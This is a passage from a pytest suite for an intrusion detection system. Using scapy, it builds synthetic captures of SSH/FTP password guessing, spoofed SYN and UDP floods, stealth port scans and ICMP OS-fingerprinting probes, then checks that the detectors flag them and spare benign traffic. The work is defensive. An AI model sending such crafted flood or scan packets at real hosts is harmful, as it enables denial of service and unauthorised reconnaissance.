    b"POST /api/notes HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\r\n"
    b'{"title": "Don\'t forget", "body": "buy milk; eat; sleep and repeat; select a movie from the list"}',
    b"POST /code HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\r\n$(document).ready(function () { init(); });",
    b"POST /upload HTTP/1.1\r\nHost: h\r\nContent-Type: application/octet-stream\r\n\r\n\x00\x01\x02binary\x00..",
    get("/", ua="curl/8.4.0"),
    get("/", ua="Wget/1.21.4"),
]


def test_benign_http_is_not_flagged(tmp_path: Path) -> None:
    for r in BENIGN_REQUESTS:
        assert http_signature(r) == 0, r
    pkts = []
    for k, r in enumerate(BENIGN_REQUESTS):
        pkts += tcp_conn(k, CLIENT, SERVER, 41000 + k, 80, [r])
    b, fc, findings = run(write(tmp_path, "benign_http.pcap", pkts))
    assert (b.http_sig == 0).all() and (fc == -1).all() and not findings


# ---- dictionary brute force ------------------------------------------------------------------
def ssh_session(t0: float, client: str, cport: int, port: int = 22) -> list:
    return tcp_conn(t0, client, SERVER, cport, port, [b"SSH-2.0-libssh_0.9\r\n", b"\x00\x00\x01\x0c" + b"k" * 60],
                    [b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n", b"\x00\x00\x00\x1c" + b"r" * 24])


def test_ssh_bruteforce_by_connections(tmp_path: Path) -> None:
    pkts = []
    for k in range(12):  # a new connection every 2 s
        pkts += ssh_session(2 * k, ATTACKER, 50000 + k)
    pkts += ssh_session(5.5, CLIENT, 40000)  # a legitimate user's session meanwhile
    pkts.sort(key=lambda p: p.time)
    b, fc, findings = run(write(tmp_path, "ssh.pcap", pkts))
    att = np.array([IP in p and (p[IP].src == ATTACKER or p[IP].dst == ATTACKER) for p in pkts])
    assert (fc[~att] == -1).all()
    assert (fc[att] == C["DictionaryBruteForce"]).all()  # the counted connections from the first SYN on
    assert findings[0].attacker == ATTACKER and findings[0].victim == SERVER and "connections" in findings[0].evidence


def test_ssh_on_another_port_is_learned_from_its_banner(tmp_path: Path) -> None:
    pkts = []
    for k in range(10):
        pkts += ssh_session(3 * k, ATTACKER, 50000 + k, port=2222)
    _, fc, _ = run(write(tmp_path, "ssh2222.pcap", pkts))
    assert (fc == C["DictionaryBruteForce"]).mean() >= 0.9
    # with a higher threshold the same traffic is not brute force
    cfg = DetectorsConfig(bruteforce=BruteForceDetectorConfig(connections=20))
    _, fc, _ = run(write(tmp_path, "ssh2222b.pcap", pkts), cfg)
    assert (fc == -1).all()


def test_ftp_bruteforce_by_refused_logins_on_one_connection(tmp_path: Path) -> None:
    reqs, reps = [], []
    for k in range(7):
        reqs += [b"USER admin\r\n", f"PASS guess{k}\r\n".encode()]
        reps += [b"331 Please specify the password.\r\n", b"530 Login incorrect.\r\n"]
    pkts = tcp_conn(0, ATTACKER, SERVER, 50001, 21, reqs, reps, step=0.5)
    b, fc, findings = run(write(tmp_path, "ftp.pcap", pkts))
    assert int((b.auth_sig == 1).sum()) == 7
    assert (fc[3:] == C["DictionaryBruteForce"]).mean() >= 0.9
    assert "refused logins" in findings[0].evidence


def test_benign_logins_are_not_brute_force(tmp_path: Path) -> None:
    pkts = []
    for k in range(3):  # an SSH user with a few sessions
        pkts += ssh_session(10 * k, CLIENT, 40000 + k)
    # an FTP client with one failed and one good login
    pkts += tcp_conn(50, CLIENT, SERVER, 41000, 21, [b"USER bob\r\n", b"PASS typo\r\n", b"USER bob\r\n", b"PASS ok\r\n"],
                     [b"331 ok\r\n", b"530 Login incorrect.\r\n", b"331 ok\r\n", b"230 Login successful.\r\n"])
    for k in range(15):  # a mail client polling POP3 every minute, IMAP every 45 s
        pkts += tcp_conn(100 + 60 * k, CLIENT, SERVER, 42000 + k, 110, [b"USER bob\r\n", b"PASS pw\r\n"],
                         [b"+OK\r\n", b"+OK logged in\r\n"])
        pkts += tcp_conn(130 + 45 * k, CLIENT, SERVER, 43000 + k, 143, [b"a1 LOGIN bob pw\r\n"], [b"a1 OK done\r\n"])
    pkts.sort(key=lambda p: p.time)
    b, fc, findings = run(write(tmp_path, "logins.pcap", pkts))
    assert int((b.auth_sig == 1).sum()) == 1  # the one refused FTP login was seen
    assert (fc == -1).all() and not findings


def test_bruteforce_state_is_bounded_under_a_spoofed_flood() -> None:
    rng = np.random.default_rng(1)
    ds = DetectorSet(DetectorsConfig(bruteforce=BruteForceDetectorConfig(max_keys=1000)))
    for k in range(3):
        r = ds.process(spoofed_syns(rng, 50_000, 1_700_000_000.0 + k, 22))
    bf = next(d for d in ds.detectors if d.name == "bruteforce")
    assert len(bf.syns) <= 1000 and bf.counters["syn_evictions"] > 0
    # one SYN per source: a flood, not a brute force
    assert set(np.unique(r.frame_class).tolist()) == {C["DDoS-SYN_Flood"]}


# ---- floods from a crowd ---------------------------------------------------------------------
def test_spoofed_floods_and_their_backscatter_are_flagged_busy_servers_not(tmp_path: Path) -> None:
    rng = np.random.default_rng(3)
    spoofed = [f"{a}.{b}.{c}.{d}" for a, b, c, d in rng.integers(1, 224, (700, 4)).tolist()]
    pkts = []
    for i, s in enumerate(spoofed[:400]):  # 400 sources in 0.8 s (one 10 s bucket): a SYN flood on VICTIM:80
        pkts.append(at(IP(src=s, dst=VICTIM) / TCP(sport=1024 + i, dport=80, flags="S"), 10 + i * 0.002))
        pkts.append(at(IP(src=VICTIM, dst=s) / TCP(sport=80, dport=1024 + i, flags="SA"), 10 + i * 0.002 + 0.0005))
        if i % 8 == 0:  # the owner of the spoofed address refuses the SYN-ACK
            pkts.append(at(IP(src=s, dst=VICTIM) / TCP(sport=1024 + i, dport=80, flags="R"), 10 + i * 0.002 + 0.001))
    for i, s in enumerate(spoofed[400:700]):  # 300 sources at another host, UDP, over 0.6 s
        pkts.append(at(IP(src=s, dst=SERVER) / UDP(sport=2000 + i, dport=9999) / Raw(b"x" * 20), 20 + i * 0.002))
    for i in range(200):  # a busy host: 200 clients in 10 s is not a flood at the default 256
        pkts.append(at(IP(src=f"10.9.{i // 100}.{i % 100 + 1}", dst=GW) / TCP(sport=3000 + i, dport=443, flags="S"),
                       30 + i * 0.004))
    # a client that completes its handshake with the flooded host during the flood is no part of the crowd
    pkts += [at(p[IP], float(p.time) - 1_700_000_000.0)
             for p in tcp_conn(10.3, "10.9.9.9", VICTIM, 40000, 80, [b"GET / HTTP/1.1\r\nHost: v\r\n\r\n"], step=0.001)]
    for i in range(100):  # a trickle from one source to the flooded host after the hold, 50 SYNs a second (under the
        # volume detector's syn_rate): not flagged
        pkts.append(at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=5000 + i, dport=80, flags="S"), 40 + i * 0.02))
    pkts.sort(key=lambda p: p.time)
    b, fc, findings = run(write(tmp_path, "floods.pcap", pkts))
    client = (b.src4 == 0x0A090909) | (b.dst4 == 0x0A090909)
    syn_to_victim = (b.dport == 80) & (b.tcp_flags == 2) & (b.ts < 1_700_000_030.0) & ~client
    assert (fc[syn_to_victim] == C["DDoS-SYN_Flood"]).all()  # from the first SYN of the bucket on
    backscatter = (b.sport == 80) & (b.tcp_flags == 0x12) & ~client  # the victim's SYN-ACKs to the spoofed sources
    assert (fc[backscatter] == C["DDoS-SYN_Flood"]).all()
    refused = (b.dport == 80) & (b.tcp_flags == 4)
    assert refused.sum() == 50 and (fc[refused] == C["DDoS-SYN_Flood"]).all()
    backscatter |= refused
    udp = b.proto == 17
    assert (fc[udp] == C["DDoS-UDP_Flood"]).all()
    assert client.sum() == 8 and (fc[client] == -1).all()
    assert (fc[~syn_to_victim & ~backscatter & ~udp] == -1).all()  # the busy host, the client and the late trickle
    by = {(f.cls, f.victim) for f in findings}
    assert by == {("DDoS-SYN_Flood", VICTIM), ("DDoS-UDP_Flood", SERVER)}
    f = next(f for f in findings if f.cls == "DDoS-SYN_Flood")
    assert f.attacker == "" and "400 sources" in f.evidence and f.packets == 850
    enc = encode_findings(findings, sensor="s", id_prefix="p", first_id=0, now=1.0)
    rec = json.loads(enc.values[0])
    jsonschema.validate(rec, json_schema())
    assert rec["flow"]["src_ip"] is None and rec["family"] == "DDoS" and rec["model"]["name"] == "detector:flood"
    # a lower threshold makes the busy host a flood too; a higher one ignores the UDP crowd
    _, fc2, _ = run(tmp_path / "floods.pcap", DetectorsConfig(flood=FloodDetectorConfig(sources=150)))
    assert (fc2[b.dport == 443] == C["DDoS-SYN_Flood"]).all()
    _, fc3, _ = run(tmp_path / "floods.pcap", DetectorsConfig(flood=FloodDetectorConfig(sources=350)))
    assert (fc3[udp] == -1).all() and (fc3[syn_to_victim] == C["DDoS-SYN_Flood"]).all()


def test_flood_counted_across_small_batches_and_bounded() -> None:
    from ids_daemon.detectors.flood import FloodDetector

    rng = np.random.default_rng(4)
    d = FloodDetector(FloodDetectorConfig(max_targets=500))
    big = spoofed_syns(rng, 1000, 1_700_000_000.0, 80)
    flagged = 0
    for k in range(0, 1000, 10):  # a live capture's batches: 10 packets each (10 ms)
        part = big.take(np.arange(k, k + 10))
        v = np.full(10, -1, np.int16)
        d.process(part, v)
        flagged += int((v >= 0).sum())
    assert d.counters["floods"] == 1 and 1000 - 260 <= flagged < 1000  # from the 256th source on
    rand = spoofed_syns(rng, 100_000, 1_700_000_002.0, 80)
    rand.dst4[:] = rng.integers(1, 2**32 - 1, len(rand), dtype=np.uint64).astype(np.uint32)
    rand.src4[:] = rand.src4 & 0xFF  # few sources to 100k hosts: no flood, and the state stays bounded
    v = np.full(len(rand), -1, np.int16)
    d.process(rand, v)
    assert len(d.buckets) <= 500 and (v == -1).all()


def test_a_short_syn_burst_from_a_crowd_is_a_flood(tmp_path: Path) -> None:
    """40 spoofed SYNs within a millisecond (a flood's first instant, or a short one): a
    burst of 32+ sources in 0.1 s. 31 sources in 0.1 s, or 40 spread over 10 s, or a UDP
    burst are not (benign multicast replies reach 23 sources in 0.1 s)."""
    rng = np.random.default_rng(5)
    src = [f"{a}.{b}.{c}.{d}" for a, b, c, d in rng.integers(1, 224, (200, 4)).tolist()]
    pkts = [at(IP(src=s, dst=VICTIM) / TCP(sport=2000 + i, dport=80, flags="S"), 1 + i * 0.00002)
            for i, s in enumerate(src[:40])]
    pkts += [at(IP(src=s, dst=SERVER) / TCP(sport=2000 + i, dport=80, flags="S"), 30 + i * 0.003)
             for i, s in enumerate(src[40:71])]  # 31 sources within 0.1 s
    pkts += [at(IP(src=s, dst=GW) / TCP(sport=2000 + i, dport=443, flags="S"), 40 + i * 0.25)
             for i, s in enumerate(src[71:111])]  # 40 sources over 10 s
    pkts += [at(IP(src=s, dst=TARGET) / UDP(sport=5353, dport=5353), 60 + i * 0.001)
             for i, s in enumerate(src[111:161])]  # a UDP burst
    path = write(tmp_path, "burst.pcap", pkts)
    b, fc, findings = run(path)
    to_victim = b.dst4 == 0xC0A80114
    assert (fc[to_victim] == C["DDoS-SYN_Flood"]).all()  # from the burst's first SYN (same batch)
    assert (fc[~to_victim] == -1).all()
    assert [f.victim for f in findings] == [VICTIM] and "32+ distinct sources within 0.1 s" in findings[0].evidence
    _, fc_off, _ = run(path, DetectorsConfig(flood=FloodDetectorConfig(burst_sources=0)))
    assert (fc_off == -1).all()


def test_a_port_scan_of_a_flooded_host_is_found_and_the_crowd_is_no_probe(tmp_path: Path) -> None:
    """A spoofed SYN flood on VICTIM:80 (600 sources in 0.6 s), and two vertical SYN scans of
    VICTIM: one before the flood, one during it. Batches of 64 frames: from the flood's first
    SYN on once it is held, a source's first SYN to the flooded host is the flood's, no probe
    (neither pending nor remembered as a reflection query). The scanner during the flood sends VICTIM a
    second SYN, and is found from its probes to the other ports; the spoofed sources are not
    probes, which the scan detector's counters show against a set whose scan and reflection
    detectors do not know the flood detector."""
    rng = np.random.default_rng(11)
    spoofed = [f"{a}.{b}.{c}.{d}" for a, b, c, d in rng.integers(1, 224, (600, 4)).tolist()]
    before, during = "10.0.0.5", "10.0.0.6"
    pkts = []
    for i, p_ in enumerate(range(1, 101)):  # a scan before the flood
        pkts.append(at(IP(src=before, dst=VICTIM) / TCP(sport=50000, dport=p_, flags="S"), 1 + i * 0.002))
        pkts.append(at(IP(src=VICTIM, dst=before) / TCP(sport=p_, dport=50000, flags="RA"), 1 + i * 0.002 + 0.0005))
    for i, s in enumerate(spoofed):  # the flood, answered
        pkts.append(at(IP(src=s, dst=VICTIM) / TCP(sport=1024 + i, dport=80, flags="S"), 10 + i * 0.001))
        pkts.append(at(IP(src=VICTIM, dst=s) / TCP(sport=80, dport=1024 + i, flags="SA"), 10 + i * 0.001 + 0.0002))
    for i, p_ in enumerate(range(1, 101)):  # a scan during the flood
        pkts.append(at(IP(src=during, dst=VICTIM) / TCP(sport=50001, dport=p_, flags="S"), 10.2 + i * 0.003))
        pkts.append(at(IP(src=VICTIM, dst=during) / TCP(sport=p_, dport=50001, flags="RA"), 10.2 + i * 0.003 + 0.0004))
    path = write(tmp_path, "scan_in_flood.pcap", sorted(pkts, key=lambda p: p.time))
    ds = DetectorSet()
    b, fc, findings = run_with(ds, path, batch_size=64)
    by = {(f.cls, f.attacker, f.victim) for f in findings}
    assert ("Recon-PortScan", before, VICTIM) in by and ("Recon-PortScan", during, VICTIM) in by
    assert ("DDoS-SYN_Flood", "", VICTIM) in by
    crowd = (b.dport == 80) & (b.tcp_flags == 2) & (b.ts >= 1_700_000_010.0) & (b.src4 != 0x0A000006)
    assert crowd.sum() == 600 and (fc[crowd][40:] == C["DDoS-SYN_Flood"]).all()  # from the burst's crossing on
    scanned = (b.src4 == 0x0A000006) & (b.tcp_flags == 2)
    assert (fc[scanned] >= 0).all() and (fc[scanned] == C["Recon-PortScan"]).sum() >= 70
    scan = next(d for d in ds.detectors if d.name == "scan")
    # the same capture with the scan and reflection detectors blind to the flood: every SYN a probe
    blind = DetectorSet()
    for d in blind.detectors:
        if hasattr(d, "floods"):
            d.floods = None
    _, _, findings_blind = run_with(blind, path, batch_size=64)
    scan_blind = next(d for d in blind.detectors if d.name == "scan")
    assert scan_blind.counters["probes"] == 100 + 600 + 100
    # the scanners' (less the second one's first SYN to VICTIM), and the crowd's of the batches before
    # the one whose count crossed the burst threshold (32 sources) only
    assert 100 + 99 < scan.counters["probes"] < 100 + 99 + 32
    refl, refl_blind = (next(d for d in s_.detectors if d.name == "reflection") for s_ in (ds, blind))
    assert not refl.held and not refl_blind.held
    assert {(f.cls, f.attacker, f.victim) for f in findings_blind} == by


# ---- OS fingerprinting and IP protocol scans --------------------------------------------------
def test_os_fingerprinting_probes_flag_the_pair(tmp_path: Path) -> None:
    """An ICMP timestamp request (or address-mask request, or an echo request with a code)
    makes (prober, host) an OS scan: the probe, the replies and the TCP probes that follow
    between the two are Recon-OSScan until hold_s after the last probe. Ordinary pings
    (code 0) and the prober's traffic with other hosts are not flagged."""
    pkts = [at(IP(src=ATTACKER, dst=VICTIM) / ICMP(type=8, code=0), -9),  # LOOKBACK_S before any probe
            at(IP(src=VICTIM, dst=ATTACKER) / ICMP(type=0), -8.999),
            at(IP(src=ATTACKER, dst=VICTIM) / ICMP(type=13), 1),  # timestamp request
            at(IP(src=VICTIM, dst=ATTACKER) / ICMP(type=14), 1.001),
            at(IP(src=ATTACKER, dst=VICTIM) / ICMP(type=8, code=123), 2),  # xprobe2's coded echo
            at(IP(src=VICTIM, dst=ATTACKER) / ICMP(type=0), 2.001),
            at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4000, dport=139, flags="S"), 3),
            at(IP(src=VICTIM, dst=ATTACKER) / TCP(sport=139, dport=4000, flags="SA"), 3.001),
            at(IP(src=ATTACKER, dst=SERVER) / TCP(sport=4001, dport=443, flags="S"), 4),  # another host
            at(IP(src="10.0.0.7", dst=VICTIM) / ICMP(type=8), 5),  # an ordinary ping from elsewhere
            at(IP(src=VICTIM, dst="10.0.0.7") / ICMP(type=0), 5.001),
            at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4002, dport=80, flags="S"), 200)]  # after the hold
    b, fc, findings = run(write(tmp_path, "osscan.pcap", pkts))
    want = np.array([-1, -1] + [C["Recon-OSScan"]] * 6 + [-1, -1, -1, -1])
    assert fc.tolist() == want.tolist()
    assert {(f.cls, f.attacker, f.victim, f.detector) for f in findings} == {("Recon-OSScan", ATTACKER, VICTIM, "osscan")}
    assert "timestamp request" in findings[0].evidence
    rec = json.loads(encode_findings(findings, sensor="s", id_prefix="p", first_id=0, now=1.0).values[0])
    jsonschema.validate(rec, json_schema())
    assert rec["model"]["name"] == "detector:osscan" and rec["family"] == "Recon" and rec["is_attack"]
    _, fc_off, _ = run(tmp_path / "osscan.pcap", DetectorsConfig(osscan=OsScanDetectorConfig(enabled=False)))
    assert (fc_off == -1).all()


@pytest.mark.parametrize("flags,what", [("F", "FIN without ACK"), ("", "no flags (NULL scan)"),
                                        ("FPU", "FIN+PSH+URG without ACK"), ("SF", "SYN+FIN without ACK")])
def test_tcp_segments_no_stack_sends_flag_the_pair(tmp_path: Path, flags: str, what: str) -> None:
    """A segment without ACK that is neither a lone SYN nor a lone RST (a FIN, NULL or Xmas scan
    probe, an OS-detection probe) makes (prober, host) a port scan, whatever the ports: the probe,
    the host's reset and what the two exchange within the hold. A connection's own FIN+ACK, its
    data, a lone SYN and the reset answering it are no probe; neither is the prober's traffic with
    another host. Off (tcp_probes false), nothing is flagged."""
    pkts = [at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4000, dport=22, flags="S"), 0),  # a lone SYN: refused
            at(IP(src=VICTIM, dst=ATTACKER) / TCP(sport=22, dport=4000, flags="R"), 0.001),
            at(IP(src=CLIENT, dst=SERVER) / TCP(sport=5000, dport=80, flags="S"), 0.1),  # an ordinary session
            at(IP(src=SERVER, dst=CLIENT) / TCP(sport=80, dport=5000, flags="SA"), 0.101),
            at(IP(src=CLIENT, dst=SERVER) / TCP(sport=5000, dport=80, flags="PA") / Raw(b"GET / HTTP/1.1\r\n\r\n"),
               0.102),
            at(IP(src=CLIENT, dst=SERVER) / TCP(sport=5000, dport=80, flags="FA"), 0.2),
            at(IP(src=SERVER, dst=CLIENT) / TCP(sport=80, dport=5000, flags="RA"), 0.201),
            at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4001, dport=3390, flags=flags), 10),  # the probe
            at(IP(src=VICTIM, dst=ATTACKER) / TCP(sport=3390, dport=4001, flags="RA"), 10.001),
            at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4002, dport=3391, flags="S"), 11),
            at(IP(src=ATTACKER, dst=SERVER) / TCP(sport=4003, dport=443, flags="S"), 12),  # another host
            at(IP(src=ATTACKER, dst=VICTIM) / TCP(sport=4004, dport=80, flags="S"), 200)]  # after the hold
    path = write(tmp_path, "stealth.pcap", pkts)
    b, fc, findings = run(path)
    want = [-1] * 7 + [C["Recon-PortScan"]] * 3 + [-1, -1]
    assert fc.tolist() == want
    assert [(f.cls, f.attacker, f.victim, f.detector) for f in findings] == [("Recon-PortScan", ATTACKER, VICTIM, "osscan")]
    assert what in findings[0].evidence
    _, fc_off, _ = run(path, DetectorsConfig(osscan=OsScanDetectorConfig(tcp_probes=False)))
    assert (fc_off == -1).all()


@needs_real
def test_real_small_stealth_scan_is_flagged() -> None:
    """nDPI's 7-port scan by hand over 40 s: too few ports for the scan detector; its FIN, NULL
    and Xmas probes and the resets answering them are Recon-PortScan."""
    b, fc, findings = run(REAL / "attack/Recon-PortScan/ntop_nDPI__tcp_scan.pcapng")
    probes = (b.proto == 6) & (b.tcp_flags & 0x10 == 0) & (b.tcp_flags & 0x3F != 2)
    answers = (b.proto == 6) & (b.src4 == 0xC0A80102) & np.isin(b.sport, [3390, 3391, 3392])
    assert probes.sum() == 3 and answers.sum() == 3
    assert (fc[probes | answers] == C["Recon-PortScan"]).all()
    assert {(f.detector, f.attacker, f.victim) for f in findings} == {("osscan", "192.168.1.178", "192.168.1.2")}


def test_ip_protocol_scan(tmp_path: Path) -> None:
    """nmap -sO: one datagram per IP protocol number to one host, answered by ICMP
    protocol-unreachable errors whose quoted header is not decoded: every protocol tried
    counts. A GRE tunnel and an ESP flow between two other hosts (two protocols) are not a scan."""
    skip = {1, 6, 17, 58}
    pkts = []
    for i, proto in enumerate(p for p in range(0, 60) if p not in skip):
        pkts.append(at(IP(src=SCANNER, dst=TARGET, proto=proto) / Raw(b"\0" * 8), i * 0.001))
        pkts.append(at(IP(src=TARGET, dst=SCANNER) / ICMP(type=3, code=2) / IP(src=SCANNER, dst=TARGET, proto=proto),
                       i * 0.001 + 0.0005))
    for i in range(40):
        pkts.append(at(IP(src=GW, dst=SERVER, proto=47 if i % 2 else 50) / Raw(b"\0" * 40), 1 + i * 0.01))
    b, fc, findings = run(write(tmp_path, "protoscan.pcap", pkts))
    scan = (b.src4 == 0x0A000005) | (b.dst4 == 0x0A000005)
    assert (fc[scan] == C["Recon-PortScan"]).mean() >= 0.6  # from the 20th protocol on
    assert (fc[~scan] == -1).all()
    assert any("IP protocols" in f.evidence for f in findings)


# ---- real captures ---------------------------------------------------------------------------
@needs_real
def test_real_spoofed_floods() -> None:
    b, fc, findings = run(REAL / "attack/DDoS-UDP_Flood/marcosValle_netlyzer__ddos.pcap")
    udp = b.proto == 17
    assert (fc[udp] == C["DDoS-UDP_Flood"]).mean() >= 0.95  # 6697 datagrams from 3371 addresses in 1.1 s
    # 880 spoofed SYNs at 100 a second and, a third of the capture, resets to the victim from the spoofed addresses
    _, fc, _ = run(REAL / "attack/DoS-SYN_Flood/GrigorDimitrov_sop__syn_flood.pcapng")
    assert (fc == C["DDoS-SYN_Flood"]).mean() >= 0.95
    b, fc, findings = run(REAL / "attack/DoS-SYN_Flood/SniperDZ-Pro_Cyber-Forensics-Workshop__tcp_syn_flood.pcap")
    syn = (b.tcp_flags & 0x12 == 2) & (b.dst4 == 0xC0A80101)
    assert (fc[syn] == C["DDoS-SYN_Flood"]).mean() >= 0.9
    answers = (b.src4 == 0xC0A80101) & ((b.tcp_flags & 0x12 == 0x12) | (b.tcp_flags & 4 != 0))
    assert (fc[~syn & ~answers] == -1).all()  # the router's other traffic: only its SYN-ACKs and resets
    assert (fc[answers] >= 0).sum() <= 100
    # scapy floods from random sources at ~200 a second, in bursts over 3 minutes: 10 s buckets hold 2,000+
    for d, name, cls in (("DoS-SYN_Flood", "syn_flood", "DDoS-SYN_Flood"), ("DoS-UDP_Flood", "udp_flood", "DDoS-UDP_Flood")):
        b, fc, _ = run(REAL / f"attack/{d}/thekrishnanand_Assignment1_NetworkSecurity_Ddos_Simulation__{name}.pcapng")
        to_victim = (b.dst4 == 0x7F000001) & (b.proto == (6 if name == "syn_flood" else 17))
        assert (fc[to_victim] == C[cls]).mean() >= 0.8
    # 40 SYNs (a few resets) from 38 spoofed sources within a millisecond: the burst rule
    _, fc, _ = run(REAL / "attack/DoS-SYN_Flood/carvalhomariana_learnITgirl__synflood.pcap")
    assert (fc == C["DDoS-SYN_Flood"]).mean() >= 0.9


@needs_real
def test_real_os_fingerprinting_and_ip_protocol_scan() -> None:
    for name, least in (("markofu_pcaps__EvilFingers_xprobe_icmp_d.pcap", 0.8),  # xprobe2: code-123 echo first
                        ("chrissanders_packets__ppa1e_osfingerprinting.pcap", 0.6)):  # five plain pings first
        _, fc, findings = run(REAL / "attack/Recon-OSScan" / name)
        assert (fc == C["Recon-OSScan"]).mean() >= least, name
        assert {f.cls for f in findings} == {"Recon-OSScan"}
    _, fc, findings = run(REAL / "attack/Recon-PortScan/markofu_pcaps__EvilFingers_IP_PROTOCOL_SCAN.pcap")
    assert (fc == C["Recon-PortScan"]).mean() >= 0.9  # 252 protocols in 0.1 s; the first 20 are not flagged


@needs_real
def test_real_arp_spoofing() -> None:
    b, fc, findings = run(REAL / "attack/MITM-ArpSpoofing/SniperDZ-Pro_Cyber-Forensics-Workshop__arp_spoofing.pcap")
    flagged = fc == C["MITM-ArpSpoofing"]
    assert flagged.sum() >= 15
    from_att = np.array([mac_to_str(m) == "b4:b6:86:fb:db:07" for m in b.arp_sha[flagged]])
    assert from_att.mean() >= 0.9 and (fc >= 0).sum() <= 0.05 * len(b)


@needs_real
def test_real_dns_spoofing() -> None:
    b, fc, findings = run(REAL / "attack/DNS_Spoofing/shrutikulkar_ADF-Project__dns_spoofing.pcap")
    dns = fc == C["DNS_Spoofing"]
    assert dns.sum() >= 5
    assert all(mac_to_str(m) == "08:00:27:96:18:a9" for m in b.eth_src[dns])  # the spoofer's frames
    assert any(f.cls == "DNS_Spoofing" for f in findings)


SCANS = ["nmap_recon_attack.pcapng", "syn_scan.pcapng", "portscan.pcapng", "hping3.pcapng", "masscan_5k.pcapng",
         "unicornscan.pcapng", "zmap_tcp_5k.pcapng", "ACK_SCAN.pcap", "FIN_SCAN.pcap", "NULL_SCAN.pcap",
         "TCP_CONNECT_SCAN.pcap", "TCP_SYN_SCAN.pcap", "UDP_SCAN.pcap", "XMAS_TREE_SCAN.pcap"]


@needs_real
@pytest.mark.parametrize("suffix", SCANS)
def test_real_port_scans(suffix: str) -> None:
    path = next(p for p in (REAL / "attack/Recon-PortScan").iterdir() if p.name.endswith("__" + suffix)
                or p.name.endswith("_" + suffix))
    b, fc, findings = run(path)
    assert (fc == C["Recon-PortScan"]).mean() >= 0.5
    assert {f.cls for f in findings} == {"Recon-PortScan"}


@needs_real
def test_real_slow_scan_is_flagged_from_its_first_probe() -> None:
    """29 SYNs ten a second to well-known ports, none answered: the 20th failed probe is known
    as failed at the 30th's time, and every probe is the scan's (34.5 % flagged when the scan
    was flagged from its crossing on)."""
    _, fc, findings = run(REAL / "attack/Recon-PortScan/chrissanders_packets__ppa1e_portscan.pcap")
    assert len(fc) == 29 and (fc == C["Recon-PortScan"]).all()
    assert [f.packets for f in findings] == [29]


@needs_real
def test_real_vulnerability_scan_is_flagged_whole() -> None:
    """X-Scan: after its port scan, its checks on the open ports (two thirds of the capture)
    are held with the scan: 27 % of the packets were flagged before, 99.5 % now."""
    b, fc, findings = run(REAL / "attack/Recon-VulnerabilityScan/markofu_pcaps__EvilFingers_xscan_capture.pcap")
    assert (fc == C["Recon-PortScan"]).mean() >= 0.95
    assert {f.attacker for f in findings} == {"192.168.1.125"}


@needs_real
def test_real_ping_sweep_and_host_discovery() -> None:
    _, fc, _ = run(REAL / "attack/Recon-PingSweep/stratosphereips_StratosphereLinuxIPS__test12-icmp-portscan.pcap")
    assert (fc == C["Recon-PingSweep"]).mean() >= 0.5
    _, fc, _ = run(REAL / "attack/Recon-HostDiscovery/stratosphereips_StratosphereLinuxIPS__test8-malicious.pcap")
    assert (fc == C["Recon-HostDiscovery"]).mean() >= 0.8


@needs_real
def test_real_benign_corpus_is_not_flagged() -> None:
    from trainer.data.real import read_tsv_manifest

    # the lockbox's repositories are evaluated once, not tuned against (trainer/data/lockbox.py)
    files = sorted(e.path for e in read_tsv_manifest(REAL / "MANIFEST.tsv", lockbox="exclude") if e.benign)
    assert len(files) >= 35
    total = flagged = 0
    shares = {}
    new_classes = np.array([C[c] for c in NEW_CLASSES])
    for f in files:
        b, fc, _ = run(f)
        assert not np.isin(fc, new_classes).any(), f.name  # web, brute force and floods: none at all
        k = int((fc >= 0).sum())
        total += len(b)
        flagged += k
        shares[f.name] = k / max(len(b), 1)
    worst = max(shares, key=shares.get)
    print(f"benign: {flagged}/{total} flagged ({flagged / total:.4%}); worst {worst} {shares[worst]:.2%}")
    # the development repositories' benign packets: 66 k when ITI's 122 k are in the lockbox (round 9)
    assert total > 50_000
    assert flagged <= 0.005 * total
    assert shares[worst] <= 0.02, worst


WEB_CLASSES = {"SqlInjection", "XSS", "CommandInjection", "VulnerabilityScan"}
# the crowd, volume, slow-HTTP and reflection detectors' classes
FLOOD_CLASSES = {c for c in DETECTOR_CLASSES if c.startswith(("DDoS-", "DoS-"))}
NEW_CLASSES = WEB_CLASSES | {"DictionaryBruteForce", "Recon-OSScan"} | FLOOD_CLASSES
# (directory, file name start, class, least share of the capture's packets flagged with it);
# measured shares are in docs/detectors.md (the handshake before the first attack request is not flagged)
REAL_WEB = [
    ("SqlInjection", "chrissanders_packets__http_dvwa_sqlinjection.", "SqlInjection", 0.85),
    ("SqlInjection", "chrissanders_packets__http_dvwa_sqlinjection_passwords", "SqlInjection", 0.7),
    ("SqlInjection", "markofu_pcaps__EvilFingers_CVE-2007-5646", "SqlInjection", 0.85),
    ("SqlInjection", "markofu_pcaps__EvilFingers_CVE-2008-0514", "SqlInjection", 0.85),
    ("SqlInjection", "markofu_pcaps__EvilFingers_SQL_Injection_in_Mobile", "SqlInjection", 0.7),
    ("SqlInjection", "markofu_pcaps__EvilFingers_joomla_sql_injection1", "SqlInjection", 0.7),
    ("SqlInjection", "ntop_nDPI__WebattackSQLinj", "SqlInjection", 0.8),
    ("XSS", "GrigorDimitrov_sop__xss", "XSS", 0.5),
    ("XSS", "markofu_pcaps__EvilFingers_Apache_XSS", "XSS", 0.8),
    ("XSS", "markofu_pcaps__EvilFingers_mambo_mambo_xss", "XSS", 0.6),
    ("XSS", "ntop_nDPI__xss", "XSS", 0.4),
]


def _real(directory: str, start: str) -> Path:
    return next(p for p in sorted((REAL / "attack" / directory).iterdir()) if p.name.startswith(start))


@needs_real
@pytest.mark.parametrize("directory, start, cls, least", REAL_WEB, ids=[w[1][-24:] for w in REAL_WEB])
def test_real_web_attacks(directory: str, start: str, cls: str, least: float) -> None:
    _, fc, findings = run(_real(directory, start))
    assert (fc == C[cls]).mean() >= least
    assert {f.cls for f in findings if f.detector == "web"} == {cls}


@needs_real
@pytest.mark.parametrize("start", ["DorsaO", "aman14199", "stratosphereips", "zeek_zeek__zeek_ftp", "zeek_zeek__zeek_sshguess"])
def test_real_dictionary_brute_force(start: str) -> None:
    _, fc, findings = run(_real("DictionaryBruteForce", start))
